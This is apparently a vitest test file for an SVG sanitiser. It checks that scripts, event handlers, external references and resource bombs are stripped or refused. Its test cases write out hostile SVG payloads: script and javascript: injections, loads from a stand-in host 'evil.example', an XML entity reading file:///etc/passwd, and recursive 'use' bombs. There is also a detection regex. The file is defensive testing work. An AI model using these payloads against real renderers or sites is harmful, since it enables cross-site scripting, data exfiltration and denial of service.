import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import sharp from 'sharp'
import { describe, expect, test } from 'vitest'
import { cleanSvg } from './clean-svg.ts'
import { Unreadable } from './unreadable.ts'

const svg = (inside: string, attributes = 'viewBox="0 0 200 100"') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inside}</svg>`
const clean = (text: string) => cleanSvg(Buffer.from(text)).text

/** Nothing that runs, fetches or leads elsewhere. */
const harmful =
  /script|javascript|onload|onclick|onbegin|foreignObject|iframe|http:\/\/(?!www\.w3\.org\/2000\/svg)|https:|file:|@import|expression|behavior|<!|<\?xml-|animate|<set|filter|data:text|alert/i

const rect = '<rect width="10" height="10" fill="#c4232b"/>'
const pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

describe('what does more than draw is left out of an SVG', () => {
  test.each<[string, string]>([
    ['a script', `<script>alert(1)</script>${rect}`],
    ['a script of another file', `<script xlink:href="http://evil.example/x.js"/>${rect}`],
    ['a script in CDATA', `<script><![CDATA[alert(1)]]></script>${rect}`],
    ['a handler', `<g onload="alert(1)" onclick='alert(2)'>${rect}</g>`],
    ['a handler by another case', `<g OnLoad="alert(1)">${rect}</g>`],
    [
      'a foreign object',
      `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>${rect}`,
    ],
    ['HTML in it', `<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>${rect}`],
    ['a script of SVG by a prefix', `<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>${rect}`],
    ['a link', `<a xlink:href="javascript:alert(1)">${rect}</a>`],
    ['an animation', `<animate attributeName="href" values="javascript:alert(1)" onbegin="alert(1)"/>${rect}`],
    ['a set', `<set attributeName="onload" to="alert(1)"/>${rect}`],
    ['@import', `<style>@import url("http://evil.example/x.css"); .a{fill:#c4232b}</style>${rect}`],
    ['a font from elsewhere', `<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>${rect}`],
    ['an address in CSS', `<style>rect{fill:url(http://evil.example/#a)}</style>${rect}`],
    ['an address in CSS by escapes', `<style>rect{fill:u\\72l(http://evil.example/#a)}</style>${rect}`],
    ['an address in a style', `<g style="fill:red;background:url('file:///etc/passwd')">${rect}</g>`],
    ['an address in an attribute', `<rect width="9" height="9" fill="url(http://evil.example/#a)"/>`],
    ['an expression', `<g style="width:expression(alert(1));behavior:url(#default)">${rect}</g>`],
    [
      'a filter',
      `<filter id="f"><feImage xlink:href="http://evil.example/x.png"/></filter><g filter="url(#f)">${rect}</g>`,
    ],
    ['a style sheet beside it', `<?xml-stylesheet href="http://evil.example/x.css"?>${rect}`],
    ['a comment', `<!-- <script>alert(1)</script> -->${rect}`],
    ['a base', `<g xml:base="http://evil.example/">${rect}</g>`],
  ])('%s', async (_what, inside) => {
    const text = clean(svg(inside))
    expect(text).not.toMatch(harmful)
    expect(text).toContain('<rect')
    expect((await sharp(Buffer.from(text)).metadata()).format).toBe('svg')
  })

  test('and so is a plain DOCTYPE', () => {
    const doctype = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    expect(clean(`<?xml version="1.0"?>${doctype}${svg(rect)}`)).not.toMatch(harmful)
  })
})

const usesGrow = Array.from(
  { length: 12 },
  (_, level) => `<g id="g${level + 1}">${`<use href="#g${level}"/>`.repeat(10)}</g>`,
).join('')

const marker = '<defs><marker id="m"><path d="M0 0L9 9L0 9z"/></marker></defs>'
const corners = 'L9 9'.repeat(60_000)

describe('an SVG is refused with a sentence', () => {
  test.each<[string, string, RegExp]>([
    ['that defines entities', `<!DOCTYPE svg [<!ENTITY a "aaaa">]>${svg('<text>&a;</text>')}`, /defines entities/],
    [
      'that reads a file by an entity',
      `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${svg('&a;')}`,
      /entities/,
    ],
    ['that names an unknown entity', svg('<text>&nbsp2;</text>'), /not well-formed/],
    ['that is cut off', svg(rect).slice(0, -12), /not well-formed/],
    ['that is no drawing', '<html xmlns="http://www.w3.org/1999/xhtml"><svg/></html>', /not well-formed/],
    [
      'whose picture is elsewhere',
      svg('<image href="http://evil.example/x.png" width="9" height="9"/>'),
      /links to a picture/,
    ],
    [
      'whose picture is a file',
      svg('<image xlink:href="file:///etc/passwd" width="9" height="9"/>'),
      /links to a picture/,
    ],
    ['whose picture is an SVG', svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'), /neither PNG nor JPEG/],
    ['whose picture is HTML', svg('<image href="data:text/html,hello"/>'), /neither PNG nor JPEG/],
    ['whose picture only says PNG', svg('<image href="data:image/png;base64,PHN2Zy8+"/>'), /neither PNG nor JPEG/],
    ['that uses a part of another file', svg('<use href="other.svg#a"/>'), /links to a picture/],
    ['whose gradient is elsewhere', svg('<linearGradient href="http://evil.example/#a"/>'), /links to a picture/],
    ['that uses itself', svg('<g id="a"><use href="#a"/></g>'), /without end/],
    ['whose parts use each other', svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'), /without end/],
    ['whose parts grow by powers', svg(`<g id="g0">${rect}</g>${usesGrow}<use href="#g12"/>`), /without end/],
    ['that is very deep', svg('<g>'.repeat(500) + '</g>'.repeat(500)), /too many parts/],
    ['that has very many parts', svg('<g/>'.repeat(60_000)), /too many parts/],
    ['that is very large', svg(`<path d="${'0'.repeat(10 * 1024 * 1024)}"/>`), /10 MB/],
    [
      'with very many pictures',
      svg(`<image href="data:image/png;base64,${pixel}"/>`.repeat(50)),
      /more than 40 pictures/,
    ],
    ['of more letters than anybody prints', svg(`<text>${'Wm'.repeat(150_000)}</text>`), /more than 10,000 letters/],
    [
      'of as many in parts',
      svg(`<text><tspan>${'W'.repeat(50)}</tspan></text>`.repeat(300)),
      /more than 10,000 letters/,
    ],
    [
      'whose letters repeat',
      svg(`<text id="t">${'W'.repeat(900)}</text>${'<use href="#t"/>'.repeat(20)}`),
      /without end/,
    ],
    [
      'with a marker at very many corners',
      svg(`${marker}<path marker-mid="url(#m)" d="M0 0${corners}"/>`),
      /without end/,
    ],
    ['and so of a group', svg(`${marker}<g style="marker:url(#m)"><path d="M0 0${corners}"/></g>`), /without end/],
    [
      'and by a style sheet',
      svg(`${marker}<style>path{marker-mid:url(#m)}</style><path d="M0 0${corners}"/>`),
      /without end/,
    ],
    ['without a size', svg(rect, ''), /how large/],
    ['of no size', svg(rect, 'viewBox="0 0 0 100"'), /how large/],
    ['of an endless size', svg(rect, 'viewBox="0 0 1e30 1e30"'), /how large/],
    ['that is far too long', svg(rect, 'viewBox="0 0 100000 1"'), /far longer/],
  ])('%s', (_what, text, sentence) => {
    expect(() => clean(text)).toThrow(Unreadable)
    expect(() => clean(text)).toThrow(sentence)
  })

  test('that is no text', () => {
    expect(() => cleanSvg(Buffer.from([0x3c, 0x73, 0x76, 0x67, 0xff, 0xfe]))).toThrow(Unreadable)
  })
})

describe('what draws stays', () => {
  test.each([
    ['very many corners', svg(`${marker}<path d="M0 0${corners}"/>`)],
    ['a marker at some', svg(`${marker}<path marker-mid="url(#m)" d="M0 0${'L9 9'.repeat(2_000)}"/>`)],
    ['a page of small print', svg(`<text>${'Care instructions. '.repeat(300)}</text>`)],
  ])('%s', (_what, text) => {
    expect(clean(text)).toContain('<svg')
  })

  test('shapes, styles, gradients, clips, own pictures and uses', () => {
    const inside =
      '<style>.a{fill:#c4232b;stroke:url(#g)}</style><defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient>' +
      '<clipPath id="c"><circle r="5"/></clipPath></defs><g transform="translate(1 2)" clip-path="url(#c)"><path class="a" d="M0 0L9 9z"/></g>' +
      `<use xlink:href="#c" x="3"/><image href="data:image/png;base64,${pixel}" width="4" height="4"/><text x="1">A &amp; B</text>`
    const text = clean(svg(inside))
    for (const part of [
      '.a{fill:#c4232b;stroke:url(#g)}',
      'clip-path="url(#c)"',
      'd="M0 0L9 9z"',
      'href="#c"',
      pixel,
      'A &amp; B',
    ])
      expect(text).toContain(part)
  })

  test('at every size, whole or a part of it', async () => {
    const { toSized } = cleanSvg(Buffer.from(svg(rect, 'width="4in" height="2in"')))
    const { width, height } = await sharp(Buffer.from(toSized({ x: 0, y: 0, width: 10, height: 5 }, 800))).metadata()
    expect([width, height]).toEqual([800, 400])
  })
})

const collected = join(import.meta.dirname, '../../../../shared/data/hostile/xml')

describe.runIf(isThere(collected))('files that others have collected', () => {
  test.each(isThere(collected) ? readdirSync(collected) : [])('%s is refused', (name) => {
    expect(() => cleanSvg(readFileSync(join(collected, name)))).toThrow(Unreadable)
  })
})

function isThere(folder: string): boolean {
  try {
    return readdirSync(folder).length > 0
  } catch {
    return false
  }
}
